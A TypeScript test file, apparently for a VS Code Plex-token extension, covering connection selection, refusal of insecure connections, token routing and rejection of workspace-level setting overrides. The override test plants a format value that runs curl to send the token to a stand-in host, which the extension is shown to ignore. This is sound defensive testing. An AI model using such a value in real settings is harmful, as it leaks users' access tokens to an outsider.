import assert from 'node:assert/strict';
import { lookup } from 'node:dns/promises';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, connect, createServer } from 'node:net';
import path from 'node:path';
import * as fc from 'fast-check';
import * as vscode from 'vscode';
import type { ServerConnection } from '../../src/plex/connections.ts';
import { isPlexError, PlexError } from '../../src/plex/errors.ts';
import type { MediaServer } from '../../src/plex/mediaServer.ts';
import { Secret } from '../../src/plex/secret.ts';
import { refuseInsecure } from '../../src/servers/insecureConnections.ts';
import { LiveConnections } from '../../src/servers/liveConnections.ts';
import type { Server } from '../../src/servers/server.ts';
import { ServerAccess } from '../../src/servers/serverAccess.ts';
import { userSetting } from '../../src/workbench/userSetting.ts';
import { until } from '../until.ts';
import { control, Fixture, simulator } from './fixture.ts';

const DELEGATION = { type: 'delegation', scope: 'all' } as const;
const { livingRoom, attic } = simulator.servers;
const local = (address: string): ServerConnection => ({ address, local: true, relay: false });
const DEAD = 'http://127.0.0.1:9';

describe('The connections of a server', () => {
  let fixture: Fixture;
  let server: Server;
  beforeEach(async () => {
    await control.reset();
    fixture = new Fixture();
    server = await fixture.addLivingRoom();
  });
  afterEach(async () => {
    fixture.dispose();
    await allow(undefined);
  });
  const allow = (value: string | undefined) =>
    vscode.workspace
      .getConfiguration('plexTokens')
      .update('insecureConnections', value, vscode.ConfigurationTarget.Global);
  const over = (...addresses: string[]): Server => ({ ...server, connections: addresses.map(local) });
  const mint = (of: Server) => fixture.mint(of);
  const kindOf = (promise: Promise<unknown>): Promise<string> =>
    promise.then(
      () => 'none',
      (error: unknown) => (isPlexError(error) ? error.kind : String(error)),
    );
  const stateOf = (of: Server, address: string): string => {
    const state = fixture.connections.stateOf(of, local(address)) ?? assert.fail(`${address} was not tried`);
    return 'latency' in state ? 'reached' : state.error.kind;
  };

  it('are all tried at once, and the best that answers is used', async () => {
    const of = over(DEAD, livingRoom.httpsUrl, livingRoom.url);
    await mint(of);
    const [first, second, third] = await control.journal();
    assert.deepEqual([first?.path, second?.path, third?.path], ['/identity', '/identity', '/security/token']);
    assert.equal(third?.entrance, 'https');
    assert.equal(stateOf(of, DEAD), 'unreachable');
    assert.equal(stateOf(of, livingRoom.url), 'reached');
    assert.equal(fixture.connections.current(of)?.address, livingRoom.httpsUrl);
  });

  it('are kept to, and tried again when the one in use fails', async () => {
    const of = over(`${livingRoom.basePathUrl}`, livingRoom.url);
    await mint(of);
    assert.equal(fixture.connections.current(of)?.address, livingRoom.basePathUrl);
    await control.clearJournal();
    await mint(of);
    assert.deepEqual(
      (await control.journal()).map(entry => entry.path),
      ['/plex/security/token'],
    );
  });

  it('are forgotten, with how they answered, when the server is gone', async () => {
    const of = over(DEAD, livingRoom.url);
    await mint(of);
    assert.equal(stateOf(of, DEAD), 'unreachable');
    await fixture.directory.remove(of);
    assert.equal(fixture.connections.stateOf(of, local(DEAD)), undefined);
    assert.equal(fixture.connections.current(of), undefined);
  });

  it('that lead to another machine get no token, and the others are used', async () => {
    const of = over(attic.url, livingRoom.url);
    await mint(of);
    assert.equal(stateOf(of, attic.url), 'wrongServer');
    const atAttic = (await control.journal()).filter(entry => entry.server === 'attic');
    assert.deepEqual(
      atAttic.map(({ path: asked, headers }) => [asked, headers['x-plex-token']]),
      [['/identity', undefined]],
    );
  });

  it('are counted in the error, where none of several answers', async () => {
    const error = await mint(over(DEAD, 'http://127.0.0.1:10')).catch(thrown => thrown);
    assert.ok(isPlexError(error));
    assert.equal(error.kind, 'unreachable');
    assert.equal(error.facts.tried, 2);
  });

  it('may have an IPv6 address and a port of their own', async () => {
    const { hostname, port } = new URL(livingRoom.url);
    const bridge = createServer(socket => {
      const further = connect({ host: hostname, port: Number(port) });
      for (const each of [socket, further]) each.on('error', () => undefined);
      socket.pipe(further).pipe(socket);
    });
    await new Promise<void>((resolve, reject) => bridge.listen(0, '::1', resolve).on('error', reject));
    const address = `http://[::1]:${(bridge.address() as AddressInfo).port}`;
    const of = over(address);
    assert.match((await mint(of)).reveal(), /^transient-/);
    assert.ok('latency' in (fixture.connections.stateOf(of, { address, local: true, relay: false }) ?? {}));
    bridge.close();
  });

  it('are not said to be of another server, where that is only so at one of several', async () => {
    const error = await mint(over(attic.url, DEAD)).catch(thrown => thrown);
    assert.ok(isPlexError(error));
    assert.equal(error.kind, 'unreachable');
    assert.equal(error.facts.tried, 2);
  });

  it('are found out about once, however many ask at the same time', async () => {
    const of = over(DEAD, livingRoom.url);
    await Promise.all([mint(of), mint(of), mint(of)]);
    const identities = (await control.journal()).filter(entry => entry.path === '/identity');
    assert.equal(identities.length, 1);
  });

  it('take one server at a time from the ninth on', async () => {
    const machineIdentifiers = Array.from({ length: 12 }, (_, index) => `made-up-${index}`);
    const waiting: (() => void)[] = [];
    let asked = 0;
    const getIdentity = async () => {
      const machineIdentifier = machineIdentifiers[asked++] ?? assert.fail('More were asked than there are');
      await new Promise<void>(resolve => waiting.push(resolve));
      return { machineIdentifier, version: '1', claimed: true };
    };
    const live = new LiveConnections({ mediaServer: async () => ({ getIdentity }) as unknown as MediaServer });
    const chosen = Promise.all(
      machineIdentifiers.map(machineIdentifier => live.choose({ ...over(livingRoom.url), machineIdentifier })),
    );
    for (const expected of [8, 9, 10, 11, 12, 12, 12, 12, 12, 12, 12, 12]) {
      await until(`${expected} requests`, () => asked >= expected);
      assert.equal(asked, expected);
      waiting.shift()?.();
    }
    await chosen;
    live.dispose();
  });

  it('are waited for no longer than the user wants to', async () => {
    await control.addFault('livingRoom', { fault: { kind: 'neverAnswers' }, path: '/identity' });
    const controller = new AbortController();
    const choosing = kindOf(fixture.connections.choose(over(livingRoom.url), controller.signal));
    await control.untilRequest(entry => entry.path === '/identity');
    controller.abort();
    assert.equal(await choosing, 'cancelled');
    await control.reset();
  });

  describe('while the clock jumps', () => {
    let now: number;
    let live: LiveConnections;
    beforeEach(() => {
      now = 10 * 3_600_000;
      live = new LiveConnections(fixture.gateway, () => now);
    });
    afterEach(() => live.dispose());

    it('are not believed for longer because the clock was set back', async () => {
      await live.choose(server);
      now -= 3_600_000;
      await live.choose(server);
      assert.equal((await control.journal()).filter(entry => entry.path === '/identity').length, 2);
    });

    it('tell how long they really took to answer', async () => {
      await control.addFault('livingRoom', { fault: { kind: 'delay', ms: 30 }, path: '/identity' });
      const choosing = live.choose(server);
      await control.untilRequest(entry => entry.path === '/identity');
      now += 3_600_000;
      const state = live.stateOf(server, await choosing);
      assert.ok(state && 'latency' in state && state.latency >= 20 && state.latency < 3_600_000, JSON.stringify(state));
    });
  });

  describe('without encryption', () => {
    it('are used in the local network', async () => {
      assert.equal(await kindOf(mint(over(livingRoom.url))), 'none');
    });

    it('are refused elsewhere, with the reason, and nothing is sent', async () => {
      const error = await mint(over('http://198.51.100.24:32400')).catch(thrown => thrown);
      assert.ok(isPlexError(error));
      assert.deepEqual([error.kind, error.facts.refusal], ['insecure', 'notLocal']);
      assert.equal(fixture.directory.stateOf(server), 'insecure');
    });

    it('are refused everywhere where the setting says never', async () => {
      await allow('never');
      assert.equal(await kindOf(mint(over(livingRoom.url))), 'insecure');
      assert.deepEqual(await control.journal(), []);
      assert.equal(await kindOf(mint(over(livingRoom.httpsUrl))), 'none');
    });

    it('are tried everywhere where the setting says always', async () => {
      await allow('always');
      await refuseInsecure('http://198.51.100.24:9');
    });

    it('are refused through a proxy, which could read along', async () => {
      const http = vscode.workspace.getConfiguration('http');
      await http.update('proxy', 'http://127.0.0.1:9', vscode.ConfigurationTarget.Global);
      try {
        const error = await mint(over('http://192.168.254.254:32400')).catch(thrown => thrown);
        assert.ok(isPlexError(error));
        assert.deepEqual([error.kind, error.facts.refusal], ['insecure', 'proxied']);
        await http.update('noProxy', ['192.168.254.254'], vscode.ConfigurationTarget.Global);
        // VS Code sends it directly then.
        await refuseInsecure('http://192.168.254.254:32400');
      } finally {
        await http.update('proxy', undefined, vscode.ConfigurationTarget.Global);
        await http.update('noProxy', undefined, vscode.ConfigurationTarget.Global);
      }
    });

    it('are judged by every address of the name', async () => {
      const { address } = await lookup('localhost');
      assert.match(address, /^(127\.|::1)/);
      const { port } = new URL(livingRoom.url);
      assert.equal(await kindOf(mint(over(`http://localhost:${port}`))), 'none');
      assert.equal(await kindOf(mint(over('http://no-such-name.invalid:32400'))), 'unreachable');
    });
  });

  it('are not for a workspace to decide about, however it writes it', async () => {
    const folder = vscode.workspace.workspaceFolders?.[0] ?? assert.fail('There is no workspace');
    const settings = path.join(folder.uri.fsPath, '.vscode');
    const formats = { Repository: 'curl http://a.example/${token}' };
    const values = { insecureConnections: 'always', clipboard: { clearAfterSeconds: 0 }, formats };
    const dotted = {
      'plexTokens.insecureConnections': 'always',
      'plexTokens.clipboard.clearAfterSeconds': 0,
      'plexTokens.formats': formats,
    };
    mkdirSync(settings, { recursive: true });
    try {
      for (const written of [dotted, { plexTokens: values }, { ...dotted, plexTokens: values }]) {
        // A setting that workspaces may change shows when VS Code has read the file.
        const probe = { 'editor.rulers': [Object.keys(written).length * 10] };
        writeFileSync(path.join(settings, 'settings.json'), JSON.stringify({ ...written, ...probe }));
        await until('the settings of the workspace', () => {
          const rulers = vscode.workspace.getConfiguration('editor').get<number[]>('rulers', []);
          return rulers[0] === probe['editor.rulers'][0];
        });
        assert.equal(userSetting('clipboard.clearAfterSeconds'), 60);
        assert.deepEqual(userSetting('formats'), {});
        assert.equal(await kindOf(mint(over('http://198.51.100.24:32400'))), 'insecure');
      }
    } finally {
      rmSync(settings, { recursive: true });
    }
  });
});

/** What answers at an address of the made-up network: a machine, a redirect, or nothing. */
type Answering = { machine: number } | 'redirect' | 'nothing';

describe('A token', () => {
  it('never goes to a machine other than its own', async () => {
    const answering: fc.Arbitrary<Answering> = fc.oneof(
      fc.record({ machine: fc.nat(3) }),
      fc.constantFrom('redirect' as const, 'nothing' as const),
    );
    const networks = fc.array(fc.array(answering, { minLength: 8, maxLength: 8 }), { minLength: 1, maxLength: 4 });
    const directories = fc.array(
      fc.array(fc.record({ place: fc.nat(7), local: fc.boolean(), relay: fc.boolean(), secure: fc.boolean() })),
      { minLength: 4, maxLength: 4 },
    );
    await fc.assert(
      fc.asyncProperty(directories, networks, async (directory, phases) => {
        const received = await askAll(directory, phases);
        for (const { machine, token } of received) assert.equal(token, `token-of-machine-${machine}`);
      }),
      { numRuns: 150 },
    );
  });
});

interface Way {
  readonly place: number;
  readonly local: boolean;
  readonly relay: boolean;
  readonly secure: boolean;
}

/**
 * Asks each of the servers of a directory in each phase of a network, with more than a minute between the phases, and
 * returns which machine was sent which token.
 */
async function askAll(directory: readonly (readonly Way[])[], phases: readonly Answering[][]) {
  const received: { machine: number; token: string }[] = [];
  let now = 0;
  let network = phases[0] ?? [];
  const at = (address: string): Answering => network[Number(new URL(address).port) - 1000] ?? 'nothing';
  const gateway = {
    mediaServer: async (address: string, token?: Secret) => {
      const facts = { host: new URL(address).host };
      const meet = async (): Promise<number> => {
        const there = at(address);
        if (there === 'nothing') throw new PlexError('unreachable', { ...facts, code: 'ECONNREFUSED' });
        if (there === 'redirect') throw new PlexError('redirected', { ...facts, target: 'http://127.0.0.1:1000' });
        if (token) received.push({ machine: there.machine, token: token.reveal() });
        return there.machine;
      };
      return {
        getIdentity: async () => ({ machineIdentifier: `machine-${await meet()}`, version: '1', claimed: true }),
        getTransientToken: async () => {
          await meet();
          return new Secret('transient-token');
        },
      } as unknown as MediaServer;
    },
  };
  const fixture = new Fixture();
  const connections = new LiveConnections(gateway, () => now);
  const { directory: servers, tokens, accounts, accountServers } = fixture;
  const access = new ServerAccess({ gateway, directory: servers, tokens, accounts, accountServers, connections });
  const known = directory.map(
    (ways, index): Server => ({
      ...{ machineIdentifier: `machine-${index}`, name: `${index}`, address: '', version: '' },
      tokens: [{ id: 'only', label: 'me' }],
      selectedToken: 'only',
      connections: ways.map(({ place, secure, ...kind }) => ({
        address: `${secure ? 'https' : 'http'}://127.0.0.1:${1000 + place}`,
        ...kind,
      })),
    }),
  );
  for (const { machineIdentifier } of known) {
    await tokens.store(machineIdentifier, 'only', new Secret(`token-of-${machineIdentifier}`));
  }
  for (const phase of phases) {
    network = phase;
    await Promise.all(
      known.map(server =>
        access
          .ask(server, mediaServer => mediaServer.getTransientToken(DELEGATION))
          .catch(error => assert.ok(isPlexError(error), String(error))),
      ),
    );
    // What answered is believed for a minute.
    now += 60_001;
  }
  for (const each of [access, connections, fixture]) each.dispose();
  return received;
}
